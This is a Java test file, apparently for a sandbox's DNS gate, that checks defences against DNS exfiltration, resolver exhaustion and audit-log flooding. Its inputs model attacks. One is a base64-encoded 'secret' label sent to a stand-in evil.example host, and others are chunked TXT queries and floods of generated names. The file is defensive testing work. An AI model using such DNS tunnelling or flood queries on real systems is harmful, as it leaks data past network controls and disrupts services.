// SPDX-FileCopyrightText: 2026 The Cloister authors
// SPDX-License-Identifier: Apache-2.0
package dev.cloister.gate.dns;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cloister.audit.AuditEvent;
import dev.cloister.gate.dns.wire.Answer;
import dev.cloister.gate.dns.wire.RecordType;
import dev.cloister.gate.dns.wire.ResponseCode;
import dev.cloister.gate.lease.LeaseTable;
import dev.cloister.gate.lease.Policies;
import dev.cloister.gate.lease.Quotas;
import dev.cloister.policy.Rule;
import java.time.Duration;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Attacks that carry data out in names, or use the resolver up.
final class DnsExfiltrationTest {
    private static final String LABEL_63 = "a".repeat(63);

    @ParameterizedTest
    @ValueSource(ints = {1, 10, 15, 16, 28, 33, 255})
    void labelOfDataUnderRefusedNameNeverReachesUpstream(int type) {
        var world = new ResolverWorld(
                Policies.strict(Policies.forwarding("*.allowed.example", 64, Rule.RecordType.values())));
        world.ask("c2VjcmV0.evil.example", type);
        assertThat(world.forwarded).isEmpty();
    }

    @Test
    void labelsUnderAllowedWildcardStopAtTheBudget() {
        var world = new ResolverWorld(Policies.strict(Policies.forwarding("*.cdn.example", 5, Rule.RecordType.TXT)));
        var refused = IntStream.range(0, 100)
                .mapToObj(i -> world.ask("chunk%d.cdn.example".formatted(i), RecordType.TXT))
                .filter(answer -> answer.code() == ResponseCode.REFUSED);
        assertThat(refused).hasSize(95);
        assertThat(world.forwarded).hasSize(5);
        assertThat(world.audit.lastAsked().why().orElseThrow().code()).isEqualTo("budget_exhausted");
    }

    @Test
    void budgetIsSharedBetweenAddressesAndForwardedRecords() {
        var world = new ResolverWorld(Policies.strict(Policies.forwarding("*.cdn.example", 2, Rule.RecordType.TXT)));
        world.ask("one.cdn.example", RecordType.A);
        world.ask("two.cdn.example", RecordType.TXT);
        assertThat(world.ask("three.cdn.example", RecordType.A)).isEqualTo(Answer.REFUSED);
        assertThat(world.ask("three.cdn.example", RecordType.TXT)).isEqualTo(Answer.REFUSED);
        assertThat(world.forwarded).containsExactly("TXT two.cdn.example");
    }

    @Test
    void labelsOf63OctetsAreNamesLikeAnyOther() {
        var world = new ResolverWorld(Policies.strict("api.example.com"));
        assertThat(world.ask(LABEL_63 + ".evil.example", RecordType.A).records())
                .hasSize(1);
        assertThat(world.ask(LABEL_63 + ".evil.example", RecordType.TXT)).isEqualTo(Answer.NO_RECORD);
        assertThat(world.forwarded).isEmpty();
    }

    @Test
    void nameOf255OctetsIsALeaseAndNothingMore() {
        var world = new ResolverWorld(Policies.strict("api.example.com"));
        var longest = String.join(".", LABEL_63, LABEL_63, LABEL_63, "a".repeat(61));
        assertThat(world.ask(longest, RecordType.A).records()).hasSize(1);
        assertThat(world.forwarded).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "github.com.default.svc.cluster.local",
                "github.com.corp.internal",
                "github.com.corp.example",
                "github"
            })
    void searchListCompoundDoesNotExist(String compound) {
        var world = new ResolverWorld(Policies.strict("github.com"));
        assertThat(world.ask(compound, RecordType.A)).isEqualTo(Answer.NO_NAME);
    }

    @Test
    void leaseExhaustionRefusesFurtherNamesAndKeepsAllowedOnesWorking() {
        var leases = new LeaseTable(LeaseTable.DEFAULT_POOL, new Quotas(100, 50));
        var world = new ResolverWorld(Policies.strict("api.example.com"), leases);
        for (var i = 0; i < 200; i++) {
            world.ask("n%d.evil.example".formatted(i), RecordType.A);
        }
        assertThat(world.audit.lastAsked().why().orElseThrow().code()).isEqualTo("leases_exhausted");
        assertThat(world.audit.lastAsked().code()).isEqualTo("REFUSED");
        assertThat(world.ask("api.example.com", RecordType.A).records()).hasSize(1);
    }

    @Test
    void floodIsCountedNotWrittenAndTheCountIsTold() {
        var world = new ResolverWorld(Policies.strict("api.example.com"));
        for (var i = 0; i < 5000; i++) {
            world.ask("n%d.evil.example".formatted(i), RecordType.A);
        }
        assertThat(world.audit.asked()).hasSize(1000);
        world.ask("api.example.com", RecordType.A);
        assertThat(world.audit.lastAsked().name()).isEqualTo("api.example.com");
        world.clock.advance(Duration.ofSeconds(11));
        world.ask("last.evil.example", RecordType.A);
        assertThat(world.audit.events)
                .filteredOn(AuditEvent.Notice.class::isInstance)
                .singleElement()
                .extracting(event -> ((AuditEvent.Notice) event).detail())
                .isEqualTo("4000 refused or empty questions were counted, not written");
    }

    @Test
    void floodDoesNotReadProcForEachPacket() {
        var world = new ResolverWorld(Policies.strict("api.example.com"));
        for (var i = 0; i < 5000; i++) {
            world.ask("n%d.evil.example".formatted(i), RecordType.A);
        }
        assertThat(world.processes.lookups.get()).isLessThanOrEqualTo(200);
    }
}
